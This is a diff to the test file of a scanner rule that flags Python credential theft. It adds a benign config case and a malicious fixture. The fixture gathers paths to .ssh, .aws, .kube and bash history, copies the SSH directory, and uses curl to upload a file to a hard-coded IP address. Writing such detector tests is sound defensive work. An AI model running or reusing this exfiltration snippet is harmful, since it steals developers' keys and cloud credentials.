@@ -3,6 +3,7 @@ import rule from './py-credential-theft.js';
 
 ruleTest(rule, {
   clean: [
+    { name: 'an SSH tool and an AWS SDK path (two developer configs)', file: 'cfg.py', code: `import os, requests\nSSH_DIR = os.path.expanduser("~/.ssh")\nAWS_DIR = os.path.expanduser("~/.aws")\nrequests.get("https://api.example.org")\n` },
     { name: 'paramiko default key paths', file: 'paramiko/client.py', code: `import os\nkeyfiles = [os.path.expanduser("~/.ssh/id_rsa"), os.path.expanduser("~/.ssh/id_ed25519")]\n` },
     { name: 'selenium chrome binary location', file: 'driver.py', code: `CHROME = r"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"\nopts.binary_location = CHROME\n` },
     { name: 'one MetaMask id in a dApp', file: 'app.py', code: `STORE = "https://chrome.google.com/webstore/detail/nkbihfbeogaeaoehlefnkodbefgpgknn"\n` },
@@ -38,6 +39,12 @@ ruleTest(rule, {
       file: 'deploy.py',
       code: `KEY = "~/.ssh/id_rsa"\nfields = ["seed"]\n`,
       findings: [{ line: 1, severity: 'medium', confidence: 'low' }],
+    },
+    {
+      name: 'developer secrets collected and sent with curl',
+      file: 'api.py',
+      code: `import os, shutil\ndef grab(u):\n    ssh = '/Users/' + u + '/.ssh'\n    aws = '/home/' + u + '/.aws'\n    kube = '/home/' + u + '/.kube'\n    hist = '/Users/' + u + '/.bash_history'\n    shutil.copytree(ssh, 'out/ssh')\n    os.system("curl -k -F \\"file=@" + "out.zip" + "\\" \\"https://54.254.189.27/api/v1/file/upload\\"")\n`,
+      findings: [{ line: 3, severity: 'high', confidence: 'medium', message: /developer secrets \(\.ssh, \.aws, \.kube, shell history\) in a file that also talks to the network/ }],
     },
   ],
 });
